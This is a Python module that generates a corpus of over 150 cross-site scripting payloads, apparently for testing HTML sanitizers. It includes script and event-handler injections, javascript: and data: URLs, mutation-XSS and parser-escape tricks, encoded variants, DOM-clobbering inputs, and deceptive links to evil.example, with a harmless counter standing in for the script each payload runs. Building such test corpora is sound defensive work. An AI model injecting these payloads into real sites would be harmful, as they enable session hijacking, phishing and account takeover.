"""Texts that try to run a script, follow a bad address, or leave their place on the page."""

_RUN = "window.__alive=(window.__alive||0)+1"
_TAB, _NEWLINE, _NUL = "\t", "\n", "\0"

# In each, the script counts itself in window.__alive, so that a browser can tell which are alive.
_TEMPLATES = r'''
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script src=data:text/javascript,RUN></script>
<script/x>RUN</script>
<script\t>RUN</script\t>
<script type=module>RUN</script>
<script>RUN
<<script>RUN//<</script>
<svg><script>RUN</script></svg>
<svg><script href=data:text/javascript,RUN />
<svg onload=RUN>
<svg/onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>
<svg><a><animate attributeName=href values=javascript:RUN /><text x=20 y=20>x</text></a>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>x</text></a>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:RUN'/></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></mtext></math>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<math href="javascript:RUN">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<noembed><p title="</noembed><img src=x onerror=RUN>">
<plaintext><img src=x onerror=RUN>
<template><img src=x onerror=RUN></template>
<template shadowrootmode=open><script>RUN</script></template>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=`RUN`>
<img src=x oNeRrOr=RUN>
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN//>
<img """><img src=x onerror=RUN>">
<img src="x" `onerror=RUN`>
<img src=x onerror\t=RUN>
<img src=x onerror\n=\nRUN>
<img src=x onerror=&#82;UN>
<img src=javascript:RUN>
<img srcset=x onerror=RUN>
<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 onload=RUN>
<image src=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN></picture>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<body onload=RUN>
<body onpageshow=RUN>
<body onfocus=RUN>
<body background=javascript:RUN>
<html onmouseover=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>x</button>
<keygen autofocus onfocus=RUN>
<p tabindex=1 autofocus onfocus=RUN>x</p>
<a href=x autofocus onfocus=RUN>x</a>
<details open ontoggle=RUN><summary>x</summary></details>
<marquee onstart=RUN>x</marquee>
<marquee behavior=alternate loop=1 onbounce=RUN onfinish=RUN width=0>x</marquee>
<p onclick=RUN>x</p>
<p onmouseover=RUN style=position:fixed;inset:0>x</p>
<p style="animation:x" onanimationstart=RUN>x</p><style>@keyframes x{}</style>
<p style="background:url(javascript:RUN)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="-moz-binding:url(data:x,RUN)">x</p>
<p contenteditable onbeforeinput=RUN>x</p>
<em id=x tabindex=1 onfocusin=RUN autofocus>x</em>
<xss autofocus tabindex=1 onfocus=RUN>x</xss>
<style>@import 'javascript:RUN';</style>
<style><img src="</style><img src=x onerror=RUN>">
<link rel=stylesheet href=data:text/css,RUN>
<link rel=import href="data:text/html,<script>RUN</script>">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href="javascript:RUN//"><a href=/x>x</a>
<iframe src=javascript:parent.RUN></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<frameset onload=RUN>
<frameset><frame src=javascript:RUN></frameset>
<object data=javascript:RUN></object>
<object data="data:text/html,<script>RUN</script>"></object>
<object onerror=RUN data=x></object>
<embed src=javascript:RUN>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<applet code=RUN></applet>
<form action=javascript:RUN><button>x</button></form>
<form><button formaction=javascript:RUN>x</button></form>
<isindex action=javascript:RUN type=submit>
<a href=javascript:RUN>x</a>
<a href="JaVaScRiPt:RUN">x</a>
<a href=" javascript:RUN">x</a>
<a href="java\tscript:RUN">x</a>
<a href="java\nscript:RUN">x</a>
<a href="\x01javascript:RUN">x</a>
<a href="javascript&colon;RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:RUN">x</a>
<a href="jav&#x09;ascript:RUN">x</a>
<a href="javascript://bank.example/%0aRUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4x">x</a>
<a href="vbscript:RUN">x</a>
<a href="view-source:javascript:RUN">x</a>
<a href="blob:javascript:RUN">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example/">x</a>
<a href="/\\evil.example/">x</a>
<a href="\\\\evil.example\\x">x</a>
<a href="/\t/evil.example/">x</a>
<a href="https:evil.example">x</a>
<a href="https:/\\evil.example">x</a>
<a href="https://bank.example@evil.example/">x</a>
<a href="https://bank.example\\@evil.example/">x</a>
<a href="https://bank.example\u202e/moc">x</a>
<a href="https://[evil">x</a>
<a href="weixin://dl/business/?t=x">x</a>
<a href="tel:95588">x</a>
<a ping=https://evil.example href=/x>x</a>
<a target=_blank href=javascript:RUN>x</a>
<a href='/x' style='position:fixed;inset:0'>x</a>
<p id=csrfmiddlewaretoken class=unfold hidden>x</p>
<form id=document><input name=cookie></form>
<!--><img src=x onerror=RUN>-->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!-- --!><img src=x onerror=RUN> -->
<![CDATA[<script>RUN</script>]]>
<?xml version=1?><script>RUN</script>
<?php RUN ?><img src=x onerror=RUN>
<!doctype html><script>RUN</script>
</p><script>RUN</script>
</div></body><script>RUN</script>
"><script>RUN</script>
'><img src=x onerror=RUN>
]]><script>RUN</script>
<p title="<script>RUN</script>">x
<p title='"><script>RUN</script>'>x
<p<script>RUN</script>
<p/onclick=RUN<img src=x onerror=RUN>
<\0script>RUN</script>
<scr\0ipt>RUN</script>
<img src=x on\0error=RUN>
<table><td background=javascript:RUN>x
<table><tr><td><img src=x onerror=RUN></table>
<select><style></select><img src=x onerror=RUN></style>
<option><style></option></select><img src=x onerror=RUN></style>
<blockquote cite=javascript:RUN>x</blockquote>
<ul><li><img src=x onerror=RUN></ul>
<em><a href=javascript:RUN><strong onclick=RUN>x</strong></a></em>
&lt;script&gt;RUN&lt;/script&gt;
+ADw-script+AD4-RUN+ADw-/script+AD4-
＜script＞RUN＜/script＞
{{constructor.constructor('RUN')()}}
'''


def hostile_texts() -> list[str]:
    """Over 150 texts. A third of them run by themselves in a browser of today, put into a page as they are."""
    texts = []
    for line in _TEMPLATES.strip().splitlines():
        text = line.replace("\\t", _TAB).replace("\\n", _NEWLINE).replace("\\0", _NUL)
        text = text.replace("\\x01", "\x01").replace("\\u202e", "\u202e").replace("\\\\", "\\")
        texts.append(text.replace("RUN", _RUN))
    return texts


def script_corpus() -> list[str]:
    """Over 300 texts: those above as they are, and each again as it would leave an attribute or a field."""
    texts = hostile_texts()
    return [*texts, *(f"\"'></textarea></title>{text}" for text in texts)]
